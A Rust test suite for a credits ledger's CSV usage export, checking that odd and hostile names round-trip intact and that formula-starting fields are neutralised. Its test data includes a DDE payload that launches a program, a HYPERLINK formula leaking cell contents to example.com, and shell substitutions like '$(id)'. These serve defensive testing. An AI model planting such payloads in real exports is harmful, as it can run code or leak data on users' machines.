//! Names are the application's users' own: whatever they are, a file of them is read back as it was, and runs nothing.

use crate::asked::ledger;
use crate::csv::{COLUMNS, usage};
use credits_ledger_tests::Session;
use std::io::Write;
use std::process::{Command, Stdio};

/// Names, and how they are exported once quotes are undone.
fn hostile() -> Vec<(String, String)> {
    let kept = [
        "plain",
        "a,b",
        ",",
        "\"",
        "\"\"",
        "\"quoted\"",
        "a\"b,\"\"c\"",
        "semi;colon",
        "a|b\\,\\\"c\\n",
        " leading",
        "trailing ",
        "two  spaces",
        " ",
        "'",
        "it's",
        "''=1",
        "'=1+1",
        "1+1",
        "a=1",
        "a@b.c",
        "1-2",
        "(=1)",
        "\u{1f600}",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "\u{202e}olleh\u{202c}",
        "\u{200f}\u{05d0}\u{05d1}",
        "z\u{0301}\u{0301}",
        "NULL",
        "\\N",
        "<script>",
        "$(id)",
        "`id`",
        "é€𝄞",
        "true",
        "#REF!",
        "%0A=1",
        "0x1",
        "1e5",
        "00012",
    ];
    let formulas = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.com?x=\"&A1,\"click, me\")",
        "+1",
        "-1",
        "--1",
        "-",
        "+",
        "=",
        "@",
        "@SUM(A1:A9)",
        "  =1+1",
        " -1",
        " @x",
        "\u{ff1d}1+1",
        "\u{ff0b}1",
        "\u{ff0d}1",
        "\u{ff20}SUM",
        "  \u{ff1d}1",
        "\u{a0}=1",
        "\u{3000}-1",
        "=\"a,b\"",
        "+\u{1f600}",
    ];
    let long = format!("={}", "\"".repeat(254));
    let full = "x,".repeat(127) + "y";
    let wide = "\u{1f600}".repeat(63) + "\u{ff1d}";
    assert_eq!([long.len(), full.len(), wide.len()], [255; 3]);
    let mut names: Vec<_> = kept.iter().map(|name| ((*name).to_owned(), (*name).to_owned())).collect();
    names.extend([full, wide].map(|name| (name.clone(), name)));
    names.extend(
        formulas.iter().map(|name| (*name).to_owned()).chain([long]).map(|name| (name.clone(), format!("'{name}"))),
    );
    names
}

fn literal(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// Accounts of these names, each with one debit with the name for everything: its key, feature, actor and resource.
fn debits(s: &mut Session, names: &[(String, String)]) {
    for (name, _) in names {
        let name = literal(name);
        s.run(&format!("SELECT credits_grant({name}, 5, 'g')"));
        s.run(&format!("SELECT credits_debit({name}, 1, {name}, {name}, {name}, {name})"));
    }
}

const NAMED: [&str; 5] = ["account", "feature", "actor", "resource", "idempotency_key"];

#[test]
fn are_read_back() {
    let mut s = ledger();
    let names = hostile();
    debits(&mut s, &names);
    for (name, expected) in &names {
        let rows = s.list(&format!("SELECT * FROM credits_usage_csv({}, '-infinity', 'infinity')", literal(name)));
        let records = usage(&rows);
        assert_eq!(records.len(), 1, "{name}");
        for column in NAMED {
            assert_eq!(&records[0][column], expected, "{column} {name:?} in {:?}", rows[1]);
        }
        for column in ["quantity", "refers_to"] {
            assert_eq!(records[0][column], "", "{name}");
        }
        assert_eq!(
            (&*records[0]["credits"], &*records[0]["entry"], &*records[0]["operation"]),
            ("1", "3", "debit"),
            "{name}"
        );
    }
}

/// Nothing that begins a formula is at the beginning of a field, but for figures below zero.
#[test]
fn run_nothing() {
    let mut s = ledger();
    let names = hostile();
    for (n, (name, _)) in names.iter().enumerate() {
        let name = literal(name);
        s.run("SELECT credits_grant('a', 5, 'g' || clock_timestamp())");
        s.run(&format!(
            "SELECT credits_debit('a', 1, {n}::text, {name}, {name}, {name}), credits_refund('a', {n}::text, 'r{n}')"
        ));
    }
    let rows = s.list("SELECT * FROM credits_usage_csv('a', '-infinity', 'infinity')");
    let records = usage(&rows);
    assert_eq!(records.len(), 2 * names.len());
    for record in &records {
        for column in COLUMNS {
            let field = &record[column];
            let begins = field
                .trim_start_matches([' ', '\u{a0}', '\u{3000}'])
                .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r']);
            let figure = field
                .strip_prefix('-')
                .is_some_and(|digits| digits.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.'));
            let is_name = NAMED.contains(&column);
            assert!(!begins || figure && !is_name, "{column} {field:?}");
        }
    }
    for (record, (_, expected)) in records.iter().step_by(2).zip(&names) {
        assert_eq!(&record["actor"], expected);
    }
}

/// Python's reader, made strict, reads the same.
#[test]
fn are_read_back_by_another_reader() {
    const READER: &str = "import csv, io, json, sys\n\
        text = io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline='')\n\
        sys.stdout.write(json.dumps(list(csv.reader(text, strict=True)), ensure_ascii=True))";
    let mut s = ledger();
    let names = hostile();
    s.run("SELECT credits_grant('a', 1000, 'g')");
    for (n, (name, _)) in names.iter().enumerate() {
        let name = literal(name);
        s.run(&format!("SELECT credits_debit('a', 1, {n}::text, {name}, {name}, {name})"));
    }
    let rows = s.list("SELECT * FROM credits_usage_csv('a', '-infinity', 'infinity')");
    let python = std::env::var_os("PYTHON").unwrap_or_else(|| "/usr/bin/python3".into());
    let mut child = Command::new(&python)
        .args(["-c", READER])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap_or_else(|error| panic!("{python:?} (set PYTHON to another): {error}"));
    let file: String = rows.iter().map(|row| format!("{row}\r\n")).collect();
    child.stdin.take().expect("a pipe").write_all(file.as_bytes()).expect("Python reads it all");
    let output = child.wait_with_output().expect("Python ends");
    assert!(output.status.success(), "Python's reader refuses the file");
    // Postgres reads the JSON.
    let json = literal(&String::from_utf8(output.stdout).expect("JSON"));
    assert_eq!(s.one(&format!("SELECT json_array_length({json})")), (names.len() + 1).to_string());
    assert_eq!(
        s.one(&format!("SELECT array_to_string(array(SELECT json_array_elements_text({json}::json->0)), ',')")),
        COLUMNS.join(",")
    );
    for (n, (name, expected)) in names.iter().enumerate() {
        let record = s.row(&format!(
            "SELECT json_array_length(r) AS fields, r->>4 AS feature, r->>5 AS actor, r->>6 AS resource, r->>13 AS key
             FROM (SELECT {json}::json->{}) record (r)",
            n + 1
        ));
        record.has(&[("fields", "15"), ("key", &n.to_string())]);
        assert_eq!([record.get("feature"), record.get("actor"), record.get("resource")], [expected; 3], "{name}");
    }
}
